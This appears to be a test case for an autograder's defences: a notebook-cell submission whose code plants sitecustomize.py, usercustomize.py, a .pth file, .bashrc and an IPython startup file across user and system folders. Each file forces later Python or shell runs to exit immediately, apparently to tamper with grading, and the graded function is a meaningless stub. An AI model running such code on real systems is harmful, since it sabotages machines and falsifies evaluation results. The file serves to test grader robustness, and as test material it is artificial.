"""attack: plants files that Python, IPython or a shell would run later
cell: fit_gaussian
others: solved
keeps: 5
expect: graded
points: 5
"""

import os
import site
import sys

folders = ["@HOME@", os.path.expanduser("~"), site.getusersitepackages(), *site.getsitepackages(), sys.prefix, "@TMP@"]
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", ".bashrc", ".ipython/profile_default/startup/0.py"):
        try:
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write("import os; os._exit(0)")
        except OSError as error:
            print(error)


def fit_gaussian(z):
    return z[0], z[:, 0]
